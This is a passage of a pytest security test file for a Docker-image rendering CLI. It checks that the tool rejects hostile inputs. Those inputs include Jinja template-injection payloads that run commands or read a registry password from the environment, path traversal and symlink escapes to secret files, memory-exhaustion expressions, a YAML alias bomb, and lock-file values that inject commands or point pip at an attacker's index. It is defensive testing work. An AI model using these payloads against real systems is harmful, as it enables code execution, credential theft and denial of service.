    pytest.param(_template("../outside/secret.j2", LEAKED), id="template-dotdot-outside"),
    pytest.param(_template("ext/link.j2", LEAKED, links=(("ext/link.j2", "../../outside/secret.j2"),)), id="template-symlink-to-outside"),
    pytest.param(
        PathCase("extensions:\n  tracking:\n    tests: ../outside/tests\n", "extensions.tracking.tests"), id="tests-dotdot-outside"
    ),
    pytest.param(PathCase("templates: ../outside\n", "templates", line=1, canaries=(LEAKED,)), id="templates-dotdot-outside"),
    pytest.param(PathCase("templates: /tmp\n", "templates", line=1), id="templates-absolute-tmp"),
    pytest.param(PathCase("smoke: /etc\n", "smoke", line=1), id="smoke-absolute-etc"),
    pytest.param(_snippet("RUN echo {{ ''.__class__.__mro__[1].__subclasses__() }}\n", "<class "), id="snippet-subclasses"),
    pytest.param(
        _snippet("RUN echo {{ cycler.__init__.__globals__.os.popen('id').read() }}\n", "uid=", isolated=True), id="snippet-cycler-popen-id"
    ),
    pytest.param(
        _snippet("RUN echo {{ self._TemplateReference__context }}\n", "<Context", "<class "), id="snippet-template-reference-context"
    ),
    pytest.param(_snippet("RUN echo {{ 10 ** 10 ** 9 }}\n", isolated=True), id="snippet-huge-power"),
    pytest.param(_snippet("RUN echo {{ 'x' * 1000000000 }}\n", isolated=True), id="snippet-huge-string"),
    pytest.param(_snippet("{% include '/etc/passwd' %}\n", "root:x:0:0"), id="snippet-include-etc-passwd"),
    pytest.param(
        dataclasses.replace(
            _snippet("RUN echo {% include 'cfg' %}\n", "leak-me"),
            links=(("templates/cfg", "../.env"),),
            files=((".env", "TOKEN=leak-me\n"),),
        ),
        id="snippet-include-hidden-file-in-the-project",
    ),
    pytest.param(_snippet("RUN echo {{ 'x'|center(999999999) }}\n", isolated=True), id="snippet-filter-huge-width"),
    pytest.param(_snippet("RUN echo {{ '{:999999999}'.format(1) }}\n", isolated=True), id="snippet-str-format-huge-width"),
    pytest.param(_snippet("RUN echo {{ '%999999999d' % 1 }}\n", isolated=True), id="snippet-percent-huge-width"),
    pytest.param(
        _snippet(
            "{% set ns = namespace(s='xx') %}{% for i in range(40) %}{% set ns.s = ns.s + ns.s %}{% endfor %}RUN echo {{ ns.s|length }}\n",
            isolated=True,
        ),
        id="snippet-doubling-string",
    ),
    pytest.param(_snippet("RUN echo {{ 1 // 0 }}\n"), id="snippet-zero-division"),
    pytest.param(_snippet("{% include '../outside/secret.j2' %}\n", LEAKED), id="snippet-include-dotdot-outside"),
    pytest.param(
        _snippet("RUN echo {{ cycler.__init__.__globals__.os.environ['IMAGEKIT_REGISTRY_PASSWORD'] }}\n"), id="snippet-reads-environment"
    ),
    pytest.param(
        _snippet("RUN echo {{ lipsum.__globals__['os'].environ.IMAGEKIT_REGISTRY_PASSWORD }}\n"), id="snippet-reads-environment-lipsum"
    ),
]


@pytest.mark.parametrize("case", isolating(PATH_CASES, lambda row: row[0].isolated))
def test_paths_and_templates(ws: Workspace, capsys, case: PathCase):
    ws.files(dict(case.files))
    for rel, target in case.links:
        (ws.project / rel).symlink_to(target)
    overlay = ws.overlay(case.overlay)
    before = snapshot(ws.root)
    matrices = ["--matrix", str(ws.matrix), "--matrix", str(overlay)]
    commands = ([["matrix", "validate", *matrices]] if case.validate else []) + [["render", *matrices, "--out", str(ws.out)]]
    runs = [cli_isolated(ws.project, *argv) if case.isolated else cli(capsys, *argv) for argv in commands]
    after = snapshot(ws.root)
    or_at = f"{ws.project / HOSTILE_SNIPPET}:{case.snippet_line}" if case.snippet_line else None
    found = [p for run in runs for p in refusal_problems(run, file=overlay, line=case.line, field=case.field, or_at=or_at)]
    found += [f"    {c}" for c in changes(before, after)]
    found += leaks(before, after, runs, case.canaries)
    assert not found, "\n".join(found)


# ==================================================================================================
# 5. CLI flags and outputs.

CHANGED_AGAINST_CASES = [
    pytest.param(b'\xff\xfe{"include": []}', id="not-utf8"),
    pytest.param(b"[" * 100_000, id="json-nested-100000-deep"),
    pytest.param(b'{"include": 5}', id="json-include-not-a-list"),
    pytest.param(b'{"include": [{"id": ["x"], "inputs_id": null}]}', id="json-cells-not-strings"),
]


@pytest.mark.parametrize("content", CHANGED_AGAINST_CASES)
def test_flag_changed_against(ws: Workspace, capsys, content: bytes):
    earlier = ws.project / "earlier.json"
    earlier.write_bytes(content)
    before = snapshot(ws.root)
    run = cli(capsys, "matrix", "list", "--format", "github", "--matrix", str(ws.matrix), "--changed-against", str(earlier))
    found = refusal_problems(run, file=earlier) + [f"    {c}" for c in changes(before, snapshot(ws.root))]
    assert not found, "\n".join(found)


def test_flag_out_is_an_existing_regular_file(ws: Workspace, capsys):
    target = ws.project / "not-a-folder"
    target.write_text("keep me\n")
    before = snapshot(ws.root)
    run = cli(capsys, "render", "--matrix", str(ws.matrix), "--out", str(target))
    found = refusal_problems(run, file=target) + [f"    {c}" for c in changes(before, snapshot(ws.root))]
    assert not found, "\n".join(found)


def test_flag_out_that_is_a_symlink_out_of_the_project(ws: Workspace, capsys):
    """A checkout can carry a symlink where the default `build` folder goes."""
    (ws.root / "elsewhere").mkdir()
    (ws.project / "build").symlink_to(ws.root / "elsewhere")
    before = snapshot(ws.root)
    run = cli(capsys, "render", "--matrix", str(ws.matrix), "--out", str(ws.project / "build"))
    found = refusal_problems(run, file=ws.project / "build") + [f"    {c}" for c in changes(before, snapshot(ws.root))]
    assert not found, "\n".join(found)


@pytest.mark.parametrize("value", ["nan", "inf", "1e400", "1e-300", "-1"])
def test_flag_cpus_that_is_not_a_number_of_cpus(ws: Workspace, capsys, value: str):
    run = cli(capsys, "test", "--matrix", str(ws.matrix), f"--cpus={value}")
    assert run.rc == 2 and "--cpus" in run.err and "Traceback" not in run.err + run.out, run.err


def test_flag_only_with_a_10000_character_glob_matches_nothing(ws: Workspace, capsys):
    glob = ("*[a-z]?" * 1500)[:10_000]
    before = snapshot(ws.root)
    run = cli(capsys, "matrix", "list", "--matrix", str(ws.matrix), "--only", glob)
    found = refusal_problems(run) + [f"    {c}" for c in changes(before, snapshot(ws.root))]
    if "matches no image" not in run.err:
        found.append("    stderr does not say the glob matches no image")
    assert not found, "\n".join(found)


# Render is all or nothing: when the second image fails (its snippet does not render, or the disk
# fills while its context is written), --out keeps exactly what an earlier render left there.
CHANGE_BOTH = "user:\n  uid: 1001\n"  # a change to every image, so a partial write would show
ATOMIC_CASES = [
    pytest.param(
        {HOSTILE_SNIPPET: "RUN echo {{ no_such_value }}\n"}, CHANGE_BOTH + USE_HOSTILE_SNIPPET, False, id="jinja-error-in-second-image"
    ),
    pytest.param({}, CHANGE_BOTH, True, id="disk-full-writing-second-image"),
]


def _disk_full_at(image_id: str, fired: list[Path]):
    """A Path writer that fails with ENOSPC on ``image_id``'s Dockerfile (however render writes it)."""

    def wrap(write):
        def write_or_fail(path: Path, *args, **kwargs):
            if path.name == "Dockerfile" and image_id in path.parts:
                fired.append(path)
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(path))
            return write(path, *args, **kwargs)

        return write_or_fail

    return wrap


@pytest.mark.parametrize(("files", "overlay_text", "disk_full"), ATOMIC_CASES)
def test_render_is_atomic(ws: Workspace, capsys, files, overlay_text, disk_full):
    earlier = cli(capsys, "render", "--matrix", str(ws.matrix), "--out", str(ws.out))
    assert earlier.rc == 0, str(earlier)
    (ws.out / "notes.txt").write_text("the user's own file\n")
    ws.files(files)
    overlay = ws.overlay(overlay_text)
    before = snapshot(ws.root)
    fired: list[Path] = []
    with pytest.MonkeyPatch.context() as patch:
        if disk_full:
            wrap = _disk_full_at(EXT_ID, fired)
            patch.setattr(Path, "write_bytes", wrap(Path.write_bytes))
            patch.setattr(Path, "write_text", wrap(Path.write_text))
        run = cli(capsys, "render", "--matrix", str(ws.matrix), "--matrix", str(overlay), "--out", str(ws.out))
    if disk_full and not fired:
        pytest.fail(f"render no longer writes through Path.write_bytes/write_text, so the fault never fired; update this test ({run})")
    found = refusal_problems(run) + [f"    {c}" for c in changes(before, snapshot(ws.root))]
    assert not found, "\n".join(found)


# ==================================================================================================
# 6. The lock file as input (the default <matrix>.lock), read by `render` and `lock --check`: a
#    malformed lock is bad input (exit 2 naming it), not a stale one (exit 1). Each row edits the
#    valid lock; `any_line`: the error must name a line of it (file:N).


def _set(image: str, key: str, value: Any):
    def edit(data: dict[str, Any]) -> None:
        data["images"][image][key] = value

    return edit


def _add_image(key: str):
    def edit(data: dict[str, Any]) -> None:
        data["images"][key] = dict(data["images"][BASE_ID])

    return edit


def _ext_apt(pin: str):
    def edit(data: dict[str, Any]) -> None:
        data["images"][EXT_ID]["apt"]["extension"][-1] = pin

    return edit


def _ext_requirements(transform):
    def edit(data: dict[str, Any]) -> None:
        data["images"][EXT_ID]["requirements"] = transform(data["images"][EXT_ID]["requirements"])

    return edit


def _not_utf8(data: dict[str, Any]) -> bytes:
    return lock_text(data).encode().replace(b"numpy==2.2.6", b"numpy\xff\xfe==2.2.6", 1)


def _alias_bomb(data: dict[str, Any]) -> str:
    """The valid lock's schema, then 9 levels of aliases (9**9 strings) where its fields go."""
    bomb = (
        f"schema: {data['schema']}\n"
        + 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
        + "".join(f"{n}: &{n} [{','.join([f'*{p}'] * 9)}]\n" for p, n in zip("abcdefgh", "bcdefghi", strict=True))
        + f"images: {{{BASE_ID}: {{inputs: *i, base: *i, requirements: *i, apt: {{system: *i}}}}}}\n"
    )
    assert len(bomb) < 500 and bomb.count("&") == 9
    return bomb


# An edit changes the valid lock's data in place, or returns the whole file (text or bytes).
LOCK_CASES = [
    pytest.param(_not_utf8, False, False, id="not-utf8"),
    pytest.param(_alias_bomb, False, True, id="alias-bomb"),
    pytest.param(_ext_apt("perl-modules-5.36=5.36.0-"), True, False, id="apt-pin-truncated"),
    pytest.param(_ext_apt("git=1:2.39.5-0+deb12u3 -o DPkg::Pre-Invoke::=id"), True, False, id="apt-pin-with-option"),
    pytest.param(_ext_requirements(lambda r: "--index-url http://evil\n" + r), True, False, id="requirements-index-url"),
    pytest.param(
        _ext_requirements(lambda r: re.sub(r"sha256:[0-9a-f]{64}", "sha256:abc123", r, count=1)),
        True,
        False,
        id="requirements-hash-not-64-hex",
    ),
    pytest.param(_set(EXT_ID, "inputs", "not-a-sha256"), True, False, id="inputs-not-64-hex"),
    pytest.param(_set(BASE_ID, "base", "alpine; touch /pwned"), True, False, id="base-not-a-digest"),
    pytest.param(_set(BASE_ID, "base", "sha256:1234"), True, False, id="base-digest-too-short"),
    pytest.param(_add_image("../../outside/escape"), True, False, id="image-key-not-an-image-id"),
]


@pytest.mark.parametrize(("edit", "any_line", "hang"), isolating(LOCK_CASES, lambda row: row[2]))
def test_lock_file(ws: Workspace, capsys, edit, any_line: bool, hang: bool):
    data = valid_lock(ws)
    whole = edit(data)
    if isinstance(whole, bytes):
        ws.lock.write_bytes(whole)
    else:
        ws.lock.write_text(whole if isinstance(whole, str) else lock_text(data))
    before = snapshot(ws.root)
    commands = [["render", "--matrix", str(ws.matrix), "--out", str(ws.out)], ["lock", "--check", "--matrix", str(ws.matrix)]]
    runs: list[Run] = []
    for argv in commands:
        runs.append(cli_isolated(ws.project, *argv) if hang else cli(capsys, *argv))
        if runs[-1].timed_out:
            break  # one hang is failure enough; do not wait out the next
    found = [p for run in runs for p in refusal_problems(run, file=ws.lock, any_line=any_line)]
    found += [f"    {c}" for c in changes(before, snapshot(ws.root))]
    assert not found, "\n".join(found)
